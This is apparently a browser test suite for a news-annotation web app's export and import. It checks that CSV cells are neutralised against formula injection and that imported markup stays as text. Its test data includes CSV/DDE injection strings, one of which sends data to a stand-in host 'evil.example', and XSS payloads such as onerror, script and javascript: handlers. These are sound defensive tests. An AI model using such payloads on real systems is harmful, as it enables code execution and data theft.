// Export and import in the page (issue 5): the CSV export neutralises cells a spreadsheet
// would run as formulas and quotes correctly; an exported JSON file imports back to exactly
// the same article and corrections; a bad file is refused with a clear message and changes
// nothing; markup in an imported file (article, anchors, speaker names, file name) is only
// ever text.

import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseCsv } from './csv-parse.mjs';
import {
  clickAnnotation,
  currentWork,
  drawnAnnotations,
  importFile,
  injectedElements,
  requireWasmBuild,
  savedState,
  seedArticle,
  selectInReading,
  setValue,
  waitIdle,
  watchErrors,
  serverAndBrowser,
} from './helpers.mjs';

requireWasmBuild();
const SEED = seedArticle().replace(/\r\n?/g, '\n');

const env = serverAndBrowser();

async function newPage(t) {
  const context = await env.browser.newContext({ viewport: { width: 1400, height: 900 }, acceptDownloads: true });
  t.after(() => context.close());
  const page = await context.newPage();
  const dialogs = [];
  page.on('dialog', async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  const errors = watchErrors(page);
  await page.goto(env.server.url);
  await waitIdle(page);
  return { context, page, errors, dialogs };
}

async function downloadOf(page, button) {
  const dl = page.waitForEvent('download');
  await page.click(button);
  const d = await dl;
  return { name: d.suggestedFilename(), body: fs.readFileSync(await d.path(), 'utf8') };
}

/** Tags text[start, end) (found by its words) as `kind` through the toolbar. */
async function tag(page, text, words, kind, from = 0) {
  const start = text.indexOf(words, from);
  assert.ok(start >= 0, `“${words}” is in the text`);
  await selectInReading(page, start, start + words.length);
  await page.click(`[data-tag=${kind}]`);
  await waitIdle(page);
  return start;
}

const FORMULA_TEXT = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click") was found in a memo, Jane Smith said on Monday.',
  '+1 555 0100 is the number of Acme Corp, which said profits rose 12% in 2023.',
  "-2+3+cmd|' /C calc'!A0 appeared next, and @SUM(1+1)*cmd|' /C calc'!A0 after it.",
  'Lee Sporn said: "=1+1, and costs, will fall by 5% in 2024," at the meeting.',
].join('\n');

test('CSV export: every tag, offsets in code points, formula cells neutralised, RFC 4180 quoting', async (t) => {
  const { page, errors } = await newPage(t);
  const text = `😀 ${FORMULA_TEXT}`;
  await setValue(page, text);
  await waitIdle(page);
  // Tags on the dangerous stretches, and a dangerous speaker name.
  await tag(page, text, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'org');
  await tag(page, text, '+1 555 0100', 'org');
  await tag(page, text, "-2+3+cmd|' /C calc'!A0", 'person');
  await tag(page, text, "@SUM(1+1)*cmd|' /C calc'!A0", 'claim');
  const quote = (await drawnAnnotations(page)).find((a) => a.kind === 'quote');
  assert.ok(quote, 'a quote was found');
  const ann = await clickAnnotation(page, 'quote', quote.start);
  await page.locator(`#tag-menu section[data-ann="${ann}"] form.menu-speaker input`).fill('@evil');
  await page.locator(`#tag-menu section[data-ann="${ann}"] form.menu-speaker input`).press('Enter');
  await waitIdle(page);

  const csv = await downloadOf(page, '#export-csv');
  assert.match(csv.name, /^newsmark-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.csv$/);
  assert.ok(csv.body.startsWith('\ufeffkind,start,end,text,speaker,score,reasons\r\n'), 'a BOM and the header');
  assert.ok(!/[^\r]\n/.test(csv.body.replace(/"(?:[^"]|"")*"/g, '')), 'CRLF between rows');
  const rows = parseCsv(csv.body);
  const json = JSON.parse((await downloadOf(page, '#export')).body);
  assert.deepEqual(rows[0], ['kind', 'start', 'end', 'text', 'speaker', 'score', 'reasons']);
  assert.equal(rows.length - 1, json.annotations.length, 'one row per tag');
  const unneutral = (s) => (/^'[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(s) ? s.slice(1) : s);
  const cps = Array.from(text);
  rows.slice(1).forEach((r, i) => {
    const a = json.annotations[i];
    for (const cell of r) assert.ok(!/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell), `row ${i + 1}: ${JSON.stringify(cell)} would run as a formula`);
    assert.equal(r[0], a.kind);
    assert.equal(Number(r[1]), a.start);
    assert.equal(Number(r[2]), a.end);
    assert.equal(cps.slice(Number(r[1]), Number(r[2])).join(''), a.text, 'offsets are code points');
    assert.equal(unneutral(r[3]), a.text);
    assert.equal(unneutral(r[4]), a.kind === 'quote' && a.speaker ? a.speaker.name : '');
    if (a.kind === 'claim' && typeof a.score === 'number') assert.ok(Math.abs(Number(r[5]) - a.score) < 1e-4);
    assert.equal(unneutral(r[6]), (a.reasons ?? []).join('; '));
  });
  const cells = rows.flat();
  for (const dangerous of ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1 555 0100', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '@evil']) {
    assert.ok(cells.includes(`'${dangerous}`), `${dangerous} is exported neutralised`);
  }
  assert.ok(csv.body.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'quotes doubled inside a quoted cell');
  assert.deepEqual(errors, []);
});

test('export then import gives back exactly the same article and corrections', async (t) => {
  const { page, errors } = await newPage(t);
  const text = `😀 ${SEED}`;
  await setValue(page, text);
  await waitIdle(page);
  // One correction of each kind the page makes.
  await tag(page, text, 'Francisco', 'org');
  const orgs = (await drawnAnnotations(page)).filter((a) => a.kind === 'org' && !a.byUser);
  let ann = await clickAnnotation(page, 'org', orgs[0].start);
  await page.locator(`#tag-menu section[data-ann="${ann}"] [data-action=remove]`).click();
  await waitIdle(page);
  ann = await clickAnnotation(page, 'org', orgs[1].start);
  await page.locator(`#tag-menu section[data-ann="${ann}"] [data-action=kind][data-kind=person]`).click();
  await waitIdle(page);
  const quote = (await drawnAnnotations(page)).find((a) => a.kind === 'quote');
  ann = await clickAnnotation(page, 'quote', quote.start);
  await page.locator(`#tag-menu section[data-ann="${ann}"] form.menu-speaker input`).fill('Lee Sporn');
  await page.locator(`#tag-menu section[data-ann="${ann}"] form.menu-speaker input`).press('Enter');
  await waitIdle(page);
  const original = await savedState(page);
  assert.equal(original.corrections.length, 4);
  const drawn = await drawnAnnotations(page);
  const file = await downloadOf(page, '#export');

  // A fresh browser profile (nothing saved), with another article in it.
  const other = await newPage(t);
  await setValue(other.page, 'Jane Smith works at Acme Corp.');
  await waitIdle(other.page);
  await importFile(other.page, file.name, file.body);
  await waitIdle(other.page);
  assert.match(await other.page.textContent('#alert-text'), new RegExp(`^Imported “${file.name.replace(/[.]/g, '\\.')}”: ${text.length.toLocaleString('en')} characters and 4 corrections\\.$`));
  assert.equal(await other.page.inputValue('#article'), text);
  const imported = await savedState(other.page);
  assert.equal(imported.text, original.text);
  assert.deepEqual(imported.corrections, original.corrections, 'exactly the same corrections (UTF-16 anchors and context)');
  assert.deepEqual(await drawnAnnotations(other.page), drawn, 'and so exactly the same highlights');
  // And back out: the second export's corrections equal the first's.
  const again = JSON.parse((await downloadOf(other.page, '#export')).body);
  assert.deepEqual(again.corrections, JSON.parse(file.body).corrections);
  // The import can be undone.
  assert.equal(await other.page.textContent('#alert-action'), 'Undo import');
  await other.page.click('#alert-action');
  await waitIdle(other.page);
  assert.equal(await other.page.inputValue('#article'), 'Jane Smith works at Acme Corp.');
  assert.deepEqual(await savedState(other.page), { version: 1, text: 'Jane Smith works at Acme Corp.', corrections: [] });
  assert.deepEqual(errors, []);
  assert.deepEqual(other.errors, []);
});

test('a bad corrections file is refused with a clear message, and nothing is overwritten', async (t) => {
  const { page, errors } = await newPage(t);
  await setValue(page, SEED);
  await waitIdle(page);
  await tag(page, SEED, 'Francisco', 'org');
  const good = JSON.parse((await downloadOf(page, '#export')).body);
  const before = await currentWork(page);
  const variant = (f) => {
    const v = structuredClone(good);
    f(v);
    return JSON.stringify(v);
  };
  const bad = [
    ['notes.json', 'this is not JSON {', /it is not a JSON file/],
    ['other.json', JSON.stringify({ hello: 'world' }), /it is not a newsmark export \("format" is missing/],
    ['newer.json', variant((v) => (v.version = 9)), /made by a newer newsmark \(version 9\)/],
    ['kind.json', variant((v) => (v.corrections[0].kind = 'place')), /correction 1: "kind" must be one of person, org, quote, claim \(it is "place"\)/],
    ['float.json', variant((v) => (v.corrections[0].target.start += 0.5)), /correction 1: "target" offsets must be whole numbers/],
    ['range.json', variant((v) => (v.corrections[0].target.end = 10_000_000)), /correction 1: "target" offsets \d+–10000000 are outside the text/],
    ['anchor.json', variant((v) => (v.corrections[0].target.text = 42)), /correction 1: "target.text" must be a non-empty string/],
    ['extra.json', variant((v) => (v.corrections[0].target.html = '<b>')), /correction 1: unknown field "target.html"/],
    ['op.json', variant((v) => v.corrections.push({ op: 'eval', code: 'alert(1)' })), /correction 2: unknown operation "eval"/],
  ];
  for (const [name, body, why] of bad) {
    await importFile(page, name, body);
    await page.waitForFunction((n) => document.getElementById('alert-text').textContent.startsWith(`“${n}” was not imported`), name);
    const msg = await page.textContent('#alert-text');
    assert.match(msg, why, name);
    assert.match(msg, /\. Nothing was changed\.$/);
    await waitIdle(page);
    assert.deepEqual(await currentWork(page), before, `${name}: the work is untouched`);
  }
  // Too big: refused by its size, before it is read.
  const huge = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'newsmark-')), 'huge.json');
  fs.writeFileSync(huge, '');
  fs.truncateSync(huge, 64 * 1024 * 1024 + 1); // sparse: no 64 MB written
  t.after(() => fs.rmSync(path.dirname(huge), { recursive: true, force: true }));
  await page.setInputFiles('#import-file', huge);
  await page.waitForFunction(() => /was not imported: the file is larger than 64 MB/.test(document.getElementById('alert-text').textContent));
  assert.deepEqual(await savedState(page), before.state);
  assert.deepEqual(errors, []);
});

test('markup in an imported file (article, anchors, speaker, file name) stays text', async (t) => {
  const { page, errors, dialogs } = await newPage(t);
  const text = [
    'Jane Smith said: "<img src=x onerror=alert(1)> is the plan for 2024."',
    'The mayor of <script>alert(2)</script> City, John Doe, said the budget rose 5% in 2023.',
    'Read more at <a href="javascript:alert(3)">javascript:alert(3)</a>, Mary Jones of Acme Corp said.',
  ].join('\n');
  const cp = (s) => Array.from(text.slice(0, text.indexOf(s))).length;
  const anchor = (s) => ({ start: cp(s), end: cp(s) + Array.from(s).length, text: s, prefix: '<b onmouseover=alert(4)>', suffix: 'javascript:alert(5)' });
  const file = {
    format: 'newsmark-analysis',
    version: 1,
    offsets: 'unicode-code-points',
    text,
    annotations: [{ kind: 'person', start: 0, end: 5, text: '<svg onload=alert(6)>' }],
    corrections: [
      { op: 'add', target: anchor('<script>alert(2)</script>'), kind: 'org' },
      { op: 'add', target: anchor('<a href="javascript:alert(3)">'), kind: 'person' },
      { op: 'setSpeaker', target: anchor('<img src=x onerror=alert(1)> is the plan for 2024.'), speaker: { name: '<img src=x onerror=alert(7)>', mention: null } },
    ],
  };
  await importFile(page, '<img src=x onerror=alert(8)>.json', JSON.stringify(file));
  await waitIdle(page);
  assert.match(await page.textContent('#alert-text'), /^Imported “<img src=x onerror=alert\(8\)>\.json”/);
  assert.equal(await page.textContent('#reading'), text);
  assert.equal(await page.locator('#corrections li:not(.empty)').count(), 3);
  assert.match(await page.textContent('#corrections'), /tag “<script>alert\(2\)<\/script>” as org/);
  assert.ok(await page.locator('#voices .voice .name', { hasText: '<img src=x onerror=alert(7)>' }).count());
  const marks = await drawnAnnotations(page);
  assert.ok(marks.some((m) => m.kind === 'org' && m.text === '<script>alert(2)</script>' && m.byUser));
  await page.locator('#reading').hover();
  await page.locator('#corrections').hover();
  await page.waitForTimeout(200);
  assert.deepEqual(await injectedElements(page), []);
  assert.deepEqual(dialogs, []);
  // The same after a reload from storage.
  await page.reload();
  await waitIdle(page);
  assert.equal(await page.textContent('#reading'), text);
  assert.deepEqual(await injectedElements(page), []);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(errors, []);
});
